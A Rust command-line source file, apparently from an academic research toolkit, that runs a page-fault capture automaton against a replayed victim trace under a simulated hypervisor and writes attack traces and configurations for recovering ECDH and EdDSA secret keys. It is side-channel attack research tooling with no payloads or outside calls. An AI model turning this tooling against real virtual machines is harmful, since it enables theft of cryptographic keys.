// Copyright (C) 2025 FZI Forschungszentrum Informatik
// SPDX-License-Identifier: Apache-2.0
//! Live capture against a replayed victim
//!
//!     Usage: pf-capture [OPTIONS] <accesses>
//!
//! This program runs a capture automaton against a simulated hypervisor
//! replaying a recording of every page access of one victim execution (a
//! trace file as written by `pf-record`). The captured attack trace and the
//! attack configuration for the offline recovery are written to the files
//! given via `--output` and `--config`.
//!
//! The pages to toggle are given via `--first` and `--second`. If omitted,
//! they are derived from the recording: the first one is the page faulted with
//! the marker number of retired instructions, the second one the page faulted
//! right after.
//!
//! For the ECDH attack, the trigger's reply is appended to the attack trace.
//! It carries the victim's secret used for validating the recovery.
//!
//! For the EdDSA attack, the transcript of the victim's signature is needed. It
//! is either returned by the trigger given via `--trigger`, which is executed
//! once the replay started, or read from the JSON file given via
//! `--transcript`.

use std::io::{BufReader, BufWriter, Write};
use std::path::PathBuf;
use std::time::Duration;

use anyhow::{Context, Result, anyhow, bail};

use pf_keyrecovery::automaton::{self, Outcome, Sequence, Targets, Toggle};
use pf_keyrecovery::config::{self, EcdhAttack, EddsaAttack, Parameters, serde_utils};
use pf_keyrecovery::eddsa::Transcript;
use pf_keyrecovery::trace::{self, Format};
use pf_keyrecovery::tracking::{Cancellation, Replay};
use pf_keyrecovery::trigger::Trigger;

fn main() -> Result<()> {
    let matches = clap::Command::new("Live capture")
        .arg(
            clap::arg!(<accesses> "Recording of the victim's page accesses")
                .value_parser(clap::value_parser!(PathBuf)),
        )
        .arg(
            clap::arg!(-a --attack <ATTACK> "Attack to capture for")
                .value_parser(["eddsa", "ecdh"])
                .default_value("eddsa"),
        )
        .arg(
            clap::arg!(-o --output <FILE> "Output file for the attack trace")
                .value_parser(clap::value_parser!(PathBuf))
                .default_value("attack.trace"),
        )
        .arg(
            clap::arg!(-c --config <FILE> "Output file for the attack configuration")
                .value_parser(clap::value_parser!(PathBuf))
                .default_value("attack.toml"),
        )
        .arg(
            clap::arg!(-p --params <FILE> "Capture parameters")
                .value_parser(clap::value_parser!(PathBuf)),
        )
        .arg(clap::arg!(--first <ADDR> "First page to toggle").value_parser(parse_addr))
        .arg(clap::arg!(--second <ADDR> "Second page to toggle").value_parser(parse_addr))
        .arg(clap::arg!(-t --trigger <URI> "Trigger for the victim"))
        .arg(
            clap::arg!(--transcript <FILE> "Signature transcript in JSON format")
                .value_parser(clap::value_parser!(PathBuf)),
        )
        .arg(
            clap::arg!(-d --debug "Enable additional debug output")
                .env("DEBUG")
                .action(clap::ArgAction::SetTrue)
                .value_parser(clap::builder::FalseyValueParser::new()),
        )
        .get_matches();

    init_logging(matches.get_flag("debug"));

    let params: Parameters = matches
        .get_one::<PathBuf>("params")
        .map(|p| {
            let params = std::fs::read_to_string(p).context("Could not load parameters")?;
            config::from_toml::<Parameters>(&params).context("Could not parse parameters")
        })
        .transpose()?
        .unwrap_or_default();
    log::debug!("Parameters: {params:?}");
    let capture = params.capture;

    let path = matches
        .get_one::<PathBuf>("accesses")
        .ok_or_else(|| anyhow!("No recording specified"))?;
    let file = std::fs::File::open(path).context("Could not open recording")?;
    let accesses = trace::parse(BufReader::new(file))
        .context("Could not parse recording")?
        .into_events();
    log::info!("Loaded {} accesses", accesses.len());

    let targets = match (
        matches.get_one::<u64>("first"),
        matches.get_one::<u64>("second"),
    ) {
        (Some(first), Some(second)) => Targets::new(*first, *second),
        (None, None) => Targets::from_marker(&accesses, capture.target_marker)
            .context("Could not search for targets")?
            .ok_or_else(|| anyhow!("No fault with marker {}", capture.target_marker))?,
        _ => bail!("Either both or none of the target pages must be given"),
    };
    log::info!(
        "Toggling pages {:#x} and {:#x}",
        targets.first,
        targets.second
    );

    let trigger = matches
        .get_one::<String>("trigger")
        .map(|u| Trigger::from_uri(u))
        .transpose()
        .context("Could not set up trigger")?;

    let cancel = Cancellation::new();
    let handler_cancel = cancel.clone();
    ctrlc::set_handler(move || handler_cancel.cancel())
        .context("Could not install Ctrl-C handler")?;

    let replay = Replay::paused(accesses);
    let victim = || {
        replay.resume();
        let payload = trigger.as_ref().map(Trigger::execute);
        while !replay.is_exhausted() && !cancel.is_cancelled() {
            std::thread::sleep(Duration::from_millis(1));
        }
        payload
    };

    let attack = matches
        .get_one::<String>("attack")
        .map(String::as_str)
        .unwrap_or("eddsa");
    let (outcome, payload) = if attack == "ecdh" {
        automaton::capture(
            Toggle::new(targets, capture.clone()),
            &replay,
            &cancel,
            victim,
        )
    } else {
        automaton::capture(
            Sequence::new(targets, capture.clone()),
            &replay,
            &cancel,
            victim,
        )
    }
    .context("Capture failed")?;
    let payload = payload.transpose().context("Could not trigger victim")?;
    log_stats(&outcome);

    let output = matches
        .get_one::<PathBuf>("output")
        .ok_or_else(|| anyhow!("No output file specified"))?;
    let file = std::fs::File::create(output).context("Could not create output file")?;
    let mut writer = trace::Writer::new(BufWriter::new(file), Format::Json);
    outcome
        .events
        .iter()
        .try_for_each(|e| writer.write_event(e))
        .context("Could not write attack trace")?;
    if let Some(reply) = payload.as_ref().filter(|_| attack == "ecdh") {
        writer
            .write_reply(reply)
            .context("Could not write victim reply")?;
    }
    writer.flush().context("Could not write attack trace")?;
    log::info!(
        "Wrote {} events to {}",
        outcome.events.len(),
        output.display()
    );

    let stack_buf_gpa = outcome
        .stack_buf_gpa
        .ok_or_else(|| anyhow!("Stack buffer was not located"))?;

    let config = if attack == "ecdh" {
        let attack = EcdhAttack {
            base_gpa: targets.first,
            second_gpa: targets.second,
            stack_buf_gpa,
        };
        config::to_toml(&attack)
    } else {
        let transcript = match (payload, matches.get_one::<PathBuf>("transcript")) {
            (_, Some(path)) => std::fs::read(path).context("Could not load transcript")?,
            (Some(payload), None) => payload,
            (None, None) => bail!("EdDSA capture requires a trigger or a transcript"),
        };
        let transcript = Transcript::from_json(&transcript).context("Could not decode transcript")?;
        let attack = EddsaAttack {
            first_gpa: targets.first,
            second_gpa: targets.second,
            stack_buf_gpa,
            mem_accesses_per_cycle: capture.mem_accesses_per_cycle,
            main_loop_cycles: capture.main_loop_cycles,
            stack_buf_alignment: capture.stack_buf_alignment,
            stack_buf_bytes: capture.stack_buf_bytes,
            transcript,
        };
        config::to_toml(&attack)
    }
    .context("Could not serialize attack configuration")?;

    let path = matches
        .get_one::<PathBuf>("config")
        .ok_or_else(|| anyhow!("No configuration file specified"))?;
    let mut file = std::fs::File::create(path).context("Could not create configuration file")?;
    file.write_all(config.as_bytes())
        .context("Could not write attack configuration")?;
    log::info!("Wrote attack configuration to {}", path.display());

    Ok(())
}

fn parse_addr(s: &str) -> Result<u64, String> {
    serde_utils::parse_addr(s).ok_or_else(|| format!("'{s}' is not an address"))
}

fn init_logging(debug: bool) {
    let level = if debug {
        log::LevelFilter::Debug
    } else {
        log::LevelFilter::Info
    };
    env_logger::Builder::new()
        .filter_level(level)
        .parse_default_env()
        .init();
}

fn log_stats(outcome: &Outcome) {
    let stats = outcome.stats;
    log::info!(
        "Handled {} events, {} desyncs, {} snapshots",
        stats.events,
        stats.desyncs,
        stats.snapshots
    );
    match outcome.stack_buf_gpa {
        Some(gpa) => log::info!(
            "Stack buffer at {gpa:#x}, located from {} faults",
            stats.located_from
        ),
        None => log::warn!("Capture ended before the stack buffer was located"),
    }
}
